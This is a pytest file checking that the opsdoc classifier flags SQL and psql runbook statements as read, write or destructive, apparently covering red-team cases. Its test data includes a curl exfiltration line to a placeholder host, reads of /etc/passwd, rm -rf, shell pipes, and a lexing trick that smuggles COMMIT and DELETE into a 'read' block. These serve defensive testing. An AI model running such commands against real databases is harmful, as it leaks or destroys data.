"""Issue 11, the static side: SQL and psql a hostile runbook could pass off as read.

Cases 1, 2, 3 and 5 of the red team's breaks, and the family of each: every
statement here was classed read (or write where it acts outside the
transaction) before the fix.
"""

from __future__ import annotations

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from pglast.parser import scan

from opsdoc.classify.sql import classify_sql, sql_tokens
from opsdoc.classify.sql_session import is_lexing_change
from opsdoc.model import Statement


def one(code: str) -> Statement:
    statements = classify_sql(code)
    assert len(statements) == 1, statements
    return statements[0]


# --- case 1: statements that change how string literals are read ---------------


@pytest.mark.parametrize(
    "sql",
    [
        "SET standard_conforming_strings = off",
        "SET SESSION standard_conforming_strings TO off",
        "SET LOCAL standard_conforming_strings = 0",
        "SET standard_conforming_strings TO DEFAULT",
        "RESET standard_conforming_strings",
        "SET backslash_quote = on",
        "RESET backslash_quote",
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        "SELECT pg_catalog.set_config('backslash_quote', 'on', true)",
        "SELECT 1 FROM t WHERE set_config('Standard_Conforming_Strings', 'off', false) <> ''",
        "ALTER ROLE app SET standard_conforming_strings = off",
        "ALTER ROLE app IN DATABASE prod SET backslash_quote = on",
        "ALTER DATABASE prod SET standard_conforming_strings = off",
        "ALTER SYSTEM SET standard_conforming_strings = off",
        "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
        "DO $$ BEGIN EXECUTE 'SET standard_conforming_strings = off'; END $$",
    ],
)
def test_changing_string_lexing_is_destructive(sql: str) -> None:
    statement = one(sql)
    assert statement.safety == "destructive", statement.reason
    assert "string literals" in statement.reason
    assert "will not run" in statement.reason
    assert is_lexing_change(statement.reason)  # how the executor knows to refuse it


def test_red_team_block_is_not_two_reads() -> None:
    block = (
        "SET standard_conforming_strings = off;\n"
        "SET application_name = 'a\\' , ' ; COMMIT; DELETE FROM t; -- ';\n"
    )
    first, *_ = classify_sql(block)
    assert first.safety == "destructive"
    assert not all(s.safety == "read" for s in classify_sql(block))


def test_escape_string_warning_stays_read() -> None:
    assert one("SET escape_string_warning = off").safety == "read"


@pytest.mark.parametrize(
    "block",
    [
        "SELECT $€$ ; $€$; SELECT 2",  # a dollar tag with a non-ASCII letter
        "SELECT 1 +€E'\\' ; SELECT 2; --'",  # €E is one identifier, not an E'' string
        "SELECT \u00a0E'\\' ; SELECT 2; --'",  # so is a no-break space before E
        "SELECT $x€$ ; $x€$; DELETE FROM t",
    ],
)
def test_pieces_are_what_postgresql_reads(block: str) -> None:
    """Each piece opsdoc classifies ends where the server's scanner ends a statement."""
    ends = [t.start for t in scan(block) if t.name == "ASCII_59"]
    assert [s for kind, s, _ in sql_tokens(block) if kind == "semi"] == ends


_FRAGMENTS = [
    "SELECT ", "E'\\''", "'\\'", "U&'\\'", "$€$", "$a$", "$x€$", "/*", "*/", "--", "\n",
    ";", "€E", "1", "x", "'", '"', " ", "e'", "'' ", "1$a$", "·E'", "+", "-", "/", "*",
    "\u00a0", "$", 'U&"', "b'", "X'",
]  # fmt: skip


@settings(max_examples=800, deadline=None)
@given(st.lists(st.sampled_from(_FRAGMENTS), min_size=1, max_size=14))
def test_statement_ends_match_the_server_scanner(parts: list[str]) -> None:
    """opsdoc's lexer and PostgreSQL's (standard_conforming_strings on) agree on every ';'."""
    block = "".join(parts)
    try:
        ends = [t.start for t in scan(block) if t.name == "ASCII_59"]
    except Exception:  # the server would refuse it too
        assume(False)
        return
    assert [s for kind, s, _ in sql_tokens(block) if kind == "semi"] == ends


# --- case 2: psql meta-commands --------------------------------------------------


@pytest.mark.parametrize(
    ("line", "safety"),
    [
        ("\\echo `rm -f /tmp/x`", "destructive"),
        ("\\set v `id`", "destructive"),
        ("\\dt `touch /tmp/p`", "destructive"),
        ("\\if `true`", "destructive"),
        ("\\timing `x`", "destructive"),
        ("\\pset title `x`", "destructive"),
        ("\\cd `x`", "destructive"),
        ("\\echo 'quoted `still runs`'", "destructive"),
        ("\\copy t to program 'curl -d @- http://x'", "destructive"),
        ("\\copy t from program 'cat /etc/passwd'", "destructive"),
        ("\\o '|sh -c x'", "destructive"),
        ("\\o |sh", "destructive"),
        ('\\o "|sh"', "destructive"),
        ("\\g |mail x", "destructive"),
        ("\\gx (format=csv) '|sh'", "destructive"),
        ("\\w |sh", "destructive"),
        ("\\o :target", "destructive"),
        ("\\x \\! rm -rf /tmp/c", "destructive"),
        ("\\dt \\! id", "destructive"),
        ("\\o out.txt", "write"),
        ("\\g out.txt", "write"),
        ("\\w query.sql", "write"),
        ("\\s history.txt", "write"),
        ("\\copy t to 'out.csv' csv", "write"),
        ("\\copy t to out.csv", "write"),
        ("\\lo_export 16403 /tmp/lo", "write"),
        ("\\cd /tmp", "write"),
        ("\\setenv PAGER cat", "write"),
        ("\\include other.sql", "write"),
        ("\\gexec", "write"),
        ("\\encoding SJIS", "write"),
        ("\\dt foo'bar", "write"),
        ("\\zzz", "write"),
        ("\\", "write"),
        ("\\du", "read"),
        ("\\dt+ public.*", "read"),
        ("\\dn", "read"),
        ("\\l+", "read"),
        ("\\dS pg_class", "read"),
        ('\\d "Odd Name"', "read"),
        ("\\o", "read"),
        ("\\g", "read"),
        ("\\copy (SELECT 1) to stdout", "read"),
        ("\\x \\dt", "read"),
        ("\\echo done", "read"),
    ],
)
def test_meta_commands_are_an_allowlist(line: str, safety: str) -> None:
    statement = one(line)
    assert statement.kind == "psql-meta"
    assert statement.safety == safety, statement.reason


def test_describe_with_a_placeholder_stays_read() -> None:
    """The executor binds only plain names into a meta-command, so ``\\d <table>`` reads."""
    (statement,) = classify_sql("\\d+ <table>", placeholders=["table"])
    assert statement.safety == "read", statement.reason


# --- case 3: transaction control and session state --------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "BEGIN READ WRITE",
        "BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE",
        "START TRANSACTION READ WRITE",
        "SET TRANSACTION READ WRITE",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        "SET transaction_read_only = off",
        "SET LOCAL transaction_read_only = 0",
        "SET transaction_read_only TO DEFAULT",
        "RESET transaction_read_only",
        "SET default_transaction_read_only = off",
        "SELECT set_config('transaction_read_only', 'off', true)",
        "SELECT set_config('default_transaction_read_only', 'off', false)",
    ],
)
def test_lifting_read_only_is_write(sql: str) -> None:
    statement = one(sql)
    assert statement.safety == "write", statement.reason
    assert "lifts READ ONLY" in statement.reason


@pytest.mark.parametrize(
    "sql",
    [
        "SET ROLE admin",
        "RESET ROLE",
        "SET SESSION AUTHORIZATION postgres",
        "RESET ALL",
        "DISCARD ALL",
        "SET search_path = evil, public",
        "SET LOCAL search_path TO evil",
        "SELECT set_config('search_path', 'evil', false)",
        "SELECT set_config(current_user, 'x', false)",
        "SET client_encoding = 'SJIS'",
        "SET session_replication_role = replica",
        "PREPARE p AS SELECT 1",
        "EXECUTE p",
        "DO $$ BEGIN PERFORM 1; END $$",
        "CALL anything()",
        "LISTEN jobs",
        "NOTIFY jobs",
        "LOCK TABLE t",
        "DECLARE c CURSOR WITH HOLD FOR SELECT 1",
        "COPY t TO '/tmp/out'",
        "COPY t TO PROGRAM 'sh -c x'",
    ],
)
def test_session_changes_are_not_read(sql: str) -> None:
    assert one(sql).safety != "read", one(sql).reason


@pytest.mark.parametrize(
    "sql",
    [
        "BEGIN",
        "BEGIN READ ONLY",
        "START TRANSACTION",
        "COMMIT",
        "END",
        "ABORT",
        "ROLLBACK",
        "SET transaction_read_only = on",
        "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ",
        "SET lock_timeout = '3s'",
        "SELECT set_config('application_name', 'x', false)",
        "DECLARE c CURSOR FOR SELECT 1",
    ],
)
def test_harmless_control_stays_read(sql: str) -> None:
    """opsdoc runs its own transaction around a read step; these cannot lift it."""
    assert one(sql).safety == "read", one(sql).reason


def test_prepare_carries_its_statement() -> None:
    """EXECUTE cannot show what it runs, so PREPARE is as dangerous as its body."""
    assert one("PREPARE p AS DELETE FROM t").safety == "destructive"


def test_copy_to_program_is_destructive() -> None:
    assert one("COPY t TO PROGRAM 'x'").safety == "destructive"
    assert one("COPY t FROM PROGRAM 'x'").safety == "destructive"


# --- case 5: effects no ROLLBACK undoes ------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT setval('s', 1000)",
        "SELECT pg_catalog.setval('s', 1)",
        "SELECT pg_create_physical_replication_slot('x')",
        "SELECT * FROM pg_create_logical_replication_slot('x', 'pgoutput')",
        "SELECT pg_copy_physical_replication_slot('a', 'b')",
        "SELECT pg_copy_logical_replication_slot('a', 'b')",
        "SELECT pg_replication_origin_create('o')",
        "SELECT pg_replication_origin_advance('o', '0/0')",
        "SELECT pg_logical_emit_message(false, 'p', 'm')",
        "SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)",
        "SELECT pg_file_write('f', 'x', false)",
        "SELECT lo_export(1, '/tmp/x')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT pg_reload_conf()",
        "SELECT pg_rotate_logfile()",
        "SELECT pg_switch_wal()",
        "SELECT pg_create_restore_point('r')",
        "SELECT pg_wal_replay_pause()",
        "SELECT pg_backup_start('b')",
    ],
)
def test_lasting_effects_are_destructive_calls(sql: str) -> None:
    statement = one(sql)
    assert statement.safety == "destructive", statement.reason
    assert statement.reason.startswith("calls ")


@pytest.mark.parametrize(
    ("sql", "safety"),
    [
        ("SELECT nextval('s')", "write"),
        ("SELECT pg_advisory_lock(1)", "write"),
        ("SELECT pg_notify('c', 'x')", "write"),
        ("SELECT txid_current(), pg_current_xact_id()", "read"),
        ("SELECT pg_sleep(0)", "read"),
    ],
)
def test_session_and_harmless_functions(sql: str, safety: str) -> None:
    assert one(sql).safety == safety, one(sql).reason


# --- unknown functions are write, wherever they hide --------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT public.upper(1)",
        "SELECT evil()",
        "SELECT * FROM my_srf()",
        "SELECT * FROM t, LATERAL f(t.a)",
        "SELECT a FROM t WHERE f(a)",
        "SELECT a FROM t ORDER BY f(a)",
        "EXPLAIN ANALYZE SELECT f()",
        "SELECT * FROM t TABLESAMPLE my_sampler(10)",
        "SELECT '1'::mytype",
        "SELECT CAST(1 AS public.t)",
        "SELECT 1 === 2",
        "SELECT 2 OPERATOR(public.+) 3",
        "ALTER TABLE t ADD COLUMN c int DEFAULT f()",
    ],
)
def test_unknown_calls_are_write(sql: str) -> None:
    assert one(sql).safety != "read", one(sql).reason


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT pg_catalog.upper('a')",
        "SELECT * FROM t TABLESAMPLE system(10)",
        "SELECT 1::int, '2'::text, now()::date, '{}'::jsonb, 'x'::regclass",
        "SELECT a FROM t WHERE a <> 1 AND b ~~ 'x%' AND c @> '{1}'",
    ],
)
def test_builtin_calls_stay_read(sql: str) -> None:
    assert one(sql).safety == "read", one(sql).reason


@pytest.mark.parametrize(
    ("sql", "safety"),
    [
        ("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", "destructive"),
        ("SELECT * FROM ts_stat('SELECT setval(''s'', 1)::text::tsvector')", "destructive"),
        ("SELECT ts_rewrite('a'::tsquery, 'SELECT pg_terminate_backend(1)')", "destructive"),
        ("SELECT query_to_xml(q, true, true, '') FROM t", "write"),
        ("SELECT query_to_xml($$SELECT 1$$, true, true, '')", "read"),
    ],
)
def test_functions_that_run_sql_text_take_its_class(sql: str, safety: str) -> None:
    """query_to_xml, ts_stat and ts_rewrite run their text: a string must not hide a DELETE."""
    assert one(sql).safety == safety, one(sql).reason
